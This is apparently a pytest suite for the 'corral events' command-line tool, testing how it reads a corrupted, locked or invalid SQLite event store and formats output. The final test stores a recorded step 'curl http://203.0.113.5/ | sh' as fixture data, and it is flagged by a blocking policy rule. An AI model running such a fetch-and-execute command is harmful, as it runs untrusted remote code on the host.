"""`corral events` on a damaged, a locked and an unreadable store, at 80 columns and piped."""

from __future__ import annotations

import os
import re
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from corral.events.model import Event
from corral.store.sqlite import EventStore

CORRAL = [sys.executable, "-m", "corral.cli.main"]
ANSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")


def corral(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*CORRAL, *args], capture_output=True, text=True, timeout=60,
                          env={**os.environ, "CORRAL_HOME": str(home)})  # fmt: skip


def _fill(home: Path, n: int = 2000) -> Path:
    store = EventStore(home / "events.db")
    store.add_many([Event(source="sandbox", rule=f"test.e{i}", sandbox_id="sb-1", episode_id="ep-1",
                          message=f"event {i} " + "m" * 400) for i in range(n)])  # fmt: skip
    store._db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    store.close()
    return home / "events.db"


def test_a_damaged_store_shows_every_intact_row_and_names_the_rest(corral_home: Path) -> None:
    db = _fill(corral_home)
    con = sqlite3.connect(db)
    leaves = [r[0] for r in con.execute("SELECT pageno FROM dbstat WHERE name = 'events' AND "
                                        "pagetype = 'leaf' ORDER BY pageno")]  # fmt: skip
    page = leaves[len(leaves) // 2]
    total = con.execute("SELECT count(*) FROM events").fetchone()[0]
    con.close()
    size = 4096
    with db.open("r+b") as f:  # one leaf of the events table is garbage now
        f.seek((page - 1) * size)
        f.write(b"\xa5" * size)
    r = corral(corral_home, "events")
    assert r.returncode == 1 and "Traceback" not in r.stderr
    lines = r.stdout.splitlines()
    assert 2000 - 20 < len(lines) < 2000 and total == 2000  # a leaf holds ~8 of these rows
    shown = {int(line.split("\t")[4].removeprefix("test.e")) for line in lines}
    missing = sorted(set(range(2000)) - shown)
    m = re.search(r"ids (\d+)-(\d+): unreadable", r.stderr)
    assert m, r.stderr
    assert [i + 1 for i in missing] == list(range(int(m[1]), int(m[2]) + 1))  # ids are 1-based
    assert f"{len(lines)} intact event(s) read" in r.stderr


def test_a_file_that_is_not_a_database_is_one_line_and_exit_1(corral_home: Path) -> None:
    (corral_home / "events.db").write_bytes(b"not sqlite at all\n" * 200)
    r = corral(corral_home, "events")
    assert r.returncode == 1 and "Traceback" not in r.stderr
    assert "file is not a database" in r.stderr and r.stdout == ""


def test_a_locked_store_is_an_error_not_a_traceback(corral_home: Path) -> None:
    db = _fill(corral_home, 10)
    con = sqlite3.connect(db, isolation_level=None)
    con.execute("PRAGMA locking_mode = EXCLUSIVE")
    con.execute("BEGIN EXCLUSIVE")
    con.execute("DELETE FROM live")
    try:
        r = corral(corral_home, "events")
    finally:
        con.execute("ROLLBACK")
        con.close()
    assert r.returncode == 1 and "Traceback" not in r.stderr
    assert "is locked by another process" in r.stderr


def test_piped_is_one_whole_line_per_event(corral_home: Path) -> None:
    _fill(corral_home, 5)
    r = corral(corral_home, "events")
    assert r.returncode == 0, r.stderr
    rows = [line.split("\t") for line in r.stdout.splitlines()]
    assert len(rows) == 5 and all(len(row) == 8 for row in rows)
    assert rows[0][4] == "test.e0" and rows[0][7] == "event 0 " + "m" * 400  # nothing cut
    assert "│" not in r.stdout and "\x1b" not in r.stdout


@pytest.mark.skipif(shutil.which("script") is None, reason="needs util-linux script(1)")
@pytest.mark.parametrize("cols", [80, 140])
def test_a_terminal_of_any_width_gets_lines_that_fit(corral_home: Path, cols: int) -> None:
    _fill(corral_home, 5)
    cmd = " ".join(CORRAL) + " events"
    r = subprocess.run(["script", "-qec", f"stty cols {cols} rows 50; {cmd}", "/dev/null"],
                       capture_output=True, text=True, timeout=60,
                       env={**os.environ, "CORRAL_HOME": str(corral_home), "TERM": "xterm"})  # fmt: skip
    assert r.returncode == 0, r.stdout
    lines = [ANSI.sub("", x).rstrip("\r") for x in r.stdout.splitlines() if x.strip()]
    assert lines and all(len(x) <= cols for x in lines), [len(x) for x in lines]
    text = "\n".join(lines)
    for i in range(5):  # every rule whole, on its own line
        assert re.search(rf"(^|\s)test\.e{i}(\s|$)", text, re.M), text


def test_with_steps_piped_is_a_line_per_step_and_event(corral_home: Path) -> None:
    from corral.store.steps import StepRecord

    store = EventStore(corral_home / "events.db")
    store.add_step(StepRecord(episode_id="ep-t", step=1, action="curl http://203.0.113.5/ | sh",
                              exit_code=126, reward=-1.0))  # fmt: skip
    store.add(Event(source="policy", rule="exec.curl_pipe_shell", severity="high", action="blocked",
                    episode_id="ep-t", step=1, message="download piped to a shell " + "x" * 300))  # fmt: skip
    store.close()
    r = corral(corral_home, "events", "--episode", "ep-t", "--with-steps")
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    assert lines[0] == "episode ep-t"
    assert (
        lines[1].startswith("step 1 exit 126 reward -1.000")
        and "$ curl http://203.0.113.5/ | sh" in lines[1]
    )
    assert lines[2].startswith("    high exec.curl_pipe_shell [blocked] download piped")
    assert lines[2].endswith("x" * 300)  # piped: nothing cut
